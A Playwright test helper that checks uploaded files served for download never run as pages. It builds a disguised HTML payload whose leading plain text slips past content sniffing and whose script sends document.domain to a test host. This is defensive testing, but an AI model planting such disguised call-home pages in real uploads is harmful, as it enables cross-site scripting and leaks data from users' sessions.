import { expect, type BrowserContext } from "@playwright/test";
import type { Site } from "./site.ts";

/*
 * A web page with a script that calls home, in the disguise of a text: its first kilobyte has no
 * mark of HTML, so that the server takes it.
 */

const words = "Berth 33, lower. ".repeat(100);

/** @param home - the site that it calls */
export const hiddenPage = (home: Site): string =>
  `${words}\n<html><script>fetch("${home.url}/ran?" + document.domain)</script>` +
  `<img src="${home.url}/drawn"><iframe src="${home.url}/framed"></iframe></html>`;

/** Opens the address of such a file in a tab: it calls nobody, also when it is drawn as a page. */
export async function expectHarmlessAt(
  context: BrowserContext,
  address: string,
  home: Site,
): Promise<void> {
  const tab = await context.newPage();
  try {
    // The server says that it is to be saved, so the tab stays where it is.
    await tab.goto(address, { timeout: 5_000 }).catch(() => undefined);
    expect(new URL(tab.url()).protocol).toBe("about:");
    await tab.route("**/files/**", async (route) => {
      const response = await route.fetch();
      const { "content-disposition": _, ...headers } = response.headers();
      await route.fulfill({ response, headers: { ...headers, "content-type": "text/html" } });
    });
    await tab.goto(address);
    await expect(tab.locator("body")).toContainText("Berth 33");
    expect(home.asked).toEqual([]);
    // The same page elsewhere does call.
    await tab.unroute("**/files/**");
    home.put("/page", hiddenPage(home));
    await tab.goto(`${home.url}/page`);
    await expect
      .poll(() => home.asked.toSorted())
      .toEqual(expect.arrayContaining(["/drawn", "/framed", "/ran"]));
  } finally {
    await tab.close();
  }
}
